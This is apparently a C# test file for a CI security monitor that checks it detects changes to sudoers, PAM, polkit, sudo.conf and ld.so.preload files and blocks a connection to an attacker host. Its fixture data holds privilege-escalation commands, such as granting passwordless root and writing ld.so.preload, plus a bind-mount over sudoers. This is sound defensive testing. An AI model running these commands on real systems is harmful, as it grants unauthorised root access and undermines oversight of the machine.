using Sallyport.Lab.Reports;

namespace Sallyport.Kernel.Tests;

/// <summary>R3: what says who may become root is written, by root of the job, in each way that gives a file another content.</summary>
public sealed class SudoChangedTests(OwnFoldersLabFixture fixture) : KernelTest(fixture), IClassFixture<OwnFoldersLabFixture>
{
    private const string Finding = "sudo-changed";

    /// <summary>File, who does it, and how.</summary>
    private static readonly (string File, string Exe, string Script)[] s_changes =
    [
        ("/etc/sudoers.d/restored", "dash", "echo 'runner ALL=(ALL) NOPASSWD: ALL' > FILE"),
        ("/etc/sudoers", "tee", "echo '#' | tee -a FILE"),
        ("/etc/sudoers.d/renamed", "mv", "echo '#' > /etc/sudo-other; mv /etc/sudo-other FILE"),
        ("/etc/sudoers.d/linked", "ln", "rm -f FILE; echo '#' > /etc/sudo-other-2; ln /etc/sudo-other-2 FILE"),
        ("/etc/pam.d/sudo", "sed", "echo '#' > FILE; sed -i s/#/##/ FILE"),
        ("/etc/polkit-1/rules.d/49-all.rules", "cp", "cp /etc/hosts FILE"),
        ("/etc/ld.so.preload", "dash", ": > FILE"),
        ("/etc/sudo.conf", "dash", "echo 'Plugin x x.so' > FILE"),
        ("/etc/sudoers.d/removed", "rm", "echo '#' > FILE; rm FILE"),
    ];

    [Theory]
    [EveryMode]
    public async Task Each_way_to_write_it_is_found_with_who_did_it(LabMode mode)
    {
        var (forbidden, honest) = ($"forbidden{Canary}"[..24], $"honest{Canary}"[..24]);
        string[] calls = // while it is changed
        [
            $"{Program("tcp")} connect {Attacker} 4443 {forbidden} || echo refused",
            $"{Program("tcp")} connect {AllowedSecond} 4443 {honest}",
        ];
        var run = await Lab.RunAsync(mode, Script([.. s_changes.Select(change => Of(change.Script, change.File)), "ls -l /etc/sudoers.d", .. calls]) with
        {
            Allow = [$"tcp://{AllowedSecond}:4443"],
            Deadline = TimeSpan.FromSeconds(60),
        });
        Assert.True(run.Process.ExitCode == 0 && run.Process.Output.Contains("restored", StringComparison.Ordinal), run.ToString());
        Assert.True(run.Traffic.Contains(forbidden) == (mode != LabMode.Block), $"The forbidden call.\n{run}");
        Assert.True(run.Traffic.Contains(honest), $"The allowed call.\n{run}");
        if (mode != LabMode.Off)
        {
            Assert.All(s_changes, change => Assert.True(
                run.Report.Findings.Any(row => row.Id == Finding && row.Evidence["file"] == change.File
                    && Path.GetFileName(run.Report.ExeOf(row.Process)) == change.Exe),
                $"{change.File} by {change.Exe}\n{string.Join('\n', run.Report.Findings.Where(row => row.Id == Finding).Select(Text(run)))}\n{run}"));
        }
    }

    [Fact]
    public async Task What_is_mounted_over_it_is_found()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script(
            "touch /etc/sudoers.d/covered; mount --bind /etc/hosts /etc/sudoers.d/covered"));
        _ = await Lab.OutsideAsync("umount", "/etc/sudoers.d/covered");
        Assert.Contains(run.Report.Findings, row => row.Id == Finding && row.Evidence["change"] == "mounted");
    }

    /// <summary>Looking, a file that only sounds like it, the same names in another folder, and what a namespace of its own has there.</summary>
    [Fact]
    public async Task What_only_looks_like_it_is_none()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script(
            "cat /etc/sudoers > /dev/null || true; ls /etc/sudoers.d /etc/pam.d; touch -a /etc/pam.d/other 2> /dev/null; true",
            "echo '#' > /etc/sudoers.dist; echo '#' > /etc/ld.so.conf.d.x; mkdir -p etc/sudoers.d; echo '#' > etc/sudoers.d/mine; echo '#' > etc/sudoers",
            "unshare -m sh -ec 'mount -t tmpfs none /etc/sudoers.d; echo > /etc/sudoers.d/own'"));
        Assert.True(run.Process.ExitCode == 0, run.ToString());
        Assert.DoesNotContain(run.Report.Findings, row => row.Id == Finding);
    }

    [Theory]
    [InlineData("off", 0)]
    [InlineData("fail", 10)]
    public async Task It_is_not_told_or_fails_the_job_as_the_policy_says(string action, int expected)
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script("echo '#' > /etc/sudoers.d/again") with
        {
            Policy = $"version: 1\ndetections: {{ sudo-changed: {action} }}",
        });
        Assert.True(run.Process.ExitCode == expected && (run.Report.Findings.Count == 0) == (action == "off"), run.ToString());
    }

    private static string Of(string script, string file) => script.Replace("FILE", file, StringComparison.Ordinal);

    private static Func<ReportedFinding, string> Text(LabRun run) => row => $"{row.Evidence["change"]} {row.Evidence["file"]} by {run.Report.ExeOf(row.Process)}";
}
